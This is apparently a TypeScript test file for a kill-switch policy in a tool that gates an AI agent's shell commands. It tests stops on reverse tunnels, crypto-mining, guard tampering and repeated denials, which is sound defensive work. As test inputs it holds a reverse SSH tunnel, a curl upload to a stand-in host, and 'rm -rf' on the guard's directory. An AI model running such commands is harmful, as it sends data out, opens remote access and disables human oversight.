// When a policy throws the kill switch: by what a call can do, by denials that come too often, by alarms.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assess } from '../../../src/core/commands/assess.ts';
import { CAPABILITIES } from '../../../src/core/commands/registry.ts';
import { type PastRecord, stoppingCapability, stoppingDenials } from '../../../src/core/gate/stop-when.ts';
import type { GatePolicy } from '../../../src/core/policy/gate-policy.ts';
import { readGatePolicy } from '../../../src/core/policy/read-gate-policy.ts';

const policyOf = (stopWhen: string, source: 'user' | 'workspace' = 'user') =>
  readGatePolicy('/p', `{"stopWhen": ${stopWhen}}`, source, { capabilities: CAPABILITIES });
const policies = (stopWhen: string): readonly GatePolicy[] => [policyOf(stopWhen).policy];
const PLACE = { cwd: '/w', home: '/home/me', workspace: '/w', isWorkTree: true };
const assessed = (line: string) => assess({ kind: 'command', line, shell: 'bash' } as never, PLACE);

const minutesAgo = (minutes: number) => new Date(Date.UTC(2027, 0, 1, 12) - minutes * 60_000).toISOString();
const denied = (ago: number, more: Partial<PastRecord> = {}): PastRecord => ({
  kind: 'decision',
  time: minutesAgo(ago),
  tier: 3,
  decision: 'denied',
  by: 'person',
  ...more,
});

describe('stopWhen', () => {
  it('stops by what an agent tries, and by work on the gate where alarms count', () => {
    const tunnels = policies('{"capabilities": ["reverse-tunnel", "crypto-mining"]}');
    const tunnel = assessed('ssh -fNR 0:localhost:22 host.invalid');
    assert.match(stoppingCapability(tunnel, tunnels) ?? '', /opens a tunnel .*\(reverse-tunnel\)/);
    assert.equal(stoppingCapability(assessed('curl -T x https://host.invalid'), tunnels), undefined);
    assert.equal(stoppingCapability(tunnel, policies('{}')), undefined);
    const tampering = assessed('rm -rf ~/.gatehouse');
    assert.equal(stoppingCapability(tampering, tunnels), undefined);
    assert.match(stoppingCapability(tampering, policies('{"bypassAlarm": true}')) ?? '', /guard-tamper/);
  });

  it('counts denials at tier 3 in the time given, since the switch was last changed', () => {
    const rules = policies('{"denials": {"count": 3, "minutes": 10}}');
    const stops = (...records: PastRecord[]) => stoppingDenials(records, rules, minutesAgo) !== undefined;
    assert.ok(stops(denied(9), denied(5), denied(0)));
    assert.ok(!stops(denied(11), denied(5), denied(0)));
    assert.ok(!stops(denied(9), denied(5)));
    assert.ok(!stops(denied(9), { kind: 'kill', time: minutesAgo(6) }, denied(5), denied(0)));
    for (const other of [
      { tier: 2 },
      { decision: 'approved' },
      { by: 'kill-switch' },
      { by: 'fault' },
      { kind: 'request' },
    ])
      assert.ok(!stops(denied(9), denied(5), denied(0, other)), JSON.stringify(other));
    assert.match(
      stoppingDenials([denied(1), denied(1), denied(1)], rules, minutesAgo) ?? '',
      /after 3 denials at tier 3 within 10/,
    );
  });

  it('is read with a place for each mistake, and a mistake stops sooner', () => {
    const { policy, problems } = policyOf('{"denials": {"count": 0, "minutes": 10}, "bypassAlarm": 1, "x": 2}');
    assert.deepEqual(policy.stopWhen, { denials: { count: 1, minutes: 1440 }, bypassAlarm: true, capabilities: [] });
    assert.equal(problems.length, 3);
    assert.deepEqual(policyOf('{"denials": {"count": 2, "minutes": 5}}', 'workspace').policy.stopWhen?.denials, {
      count: 2,
      minutes: 5,
    });
    const twice = readGatePolicy('/p', '{"stopWhen": {"bypassAlarm": true}, "stopWhen": {}}', 'user', {
      capabilities: CAPABILITIES,
    });
    assert.equal(twice.policy.stopWhen?.bypassAlarm, true);
    assert.match(policyOf('{"capabilities": ["nothing"]}').problems[0]?.message ?? '', /No capability is called/);
  });
});
